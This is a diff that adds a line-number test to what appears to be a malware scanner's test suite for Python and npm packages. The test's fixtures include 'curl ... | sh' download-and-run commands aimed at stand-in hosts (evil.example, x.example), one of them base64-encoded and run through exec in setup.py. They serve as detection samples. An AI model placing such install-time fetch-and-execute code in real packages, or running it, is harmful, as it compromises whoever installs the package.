@@ -34,6 +34,19 @@ describe('the shipped rules', () => {
   });
 });
 
+describe('line numbers', () => {
+  it('a finding names its 1-based line; what a base64 literal decodes to names the literal\'s line', () => {
+    const payload = Buffer.from('import os; os.system("curl http://x.example/a | sh")').toString('base64');
+    const code = `import os\n\n\nos.system("curl http://evil.example/p.sh | sh")\n\nexec(__import__("base64").b64decode("${payload}"))\n`;
+    const out = py({ 'setup.py': code, 'pkg/m.py': `x = 1\n${code}` });
+    const lines = (file: string, code: string) => out.findings.filter((f) => f.file === file && f.code === code).map((f) => f.line);
+    expect(lines('setup.py', 'shell_download_pipe')).toEqual([4, 6]);
+    expect(lines('setup.py', 'py_exec_decoded')).toEqual([6]);
+    expect(lines('pkg/m.py', 'shell_download_pipe')).toEqual([5, 7]);
+    expect(lines('pkg/m.py', 'attack_chain')).toEqual([7]);
+  });
+});
+
 describe('install-time execution (npm hooks judged by what they run)', () => {
   it('native-addon builds and set-up tools are ordinary', () => {
     for (const cmd of ['node-gyp-build', 'node-gyp rebuild', 'prebuild-install -r napi || node-gyp rebuild', 'husky install', 'patch-package', 'opencollective-postinstall || exit 0']) {
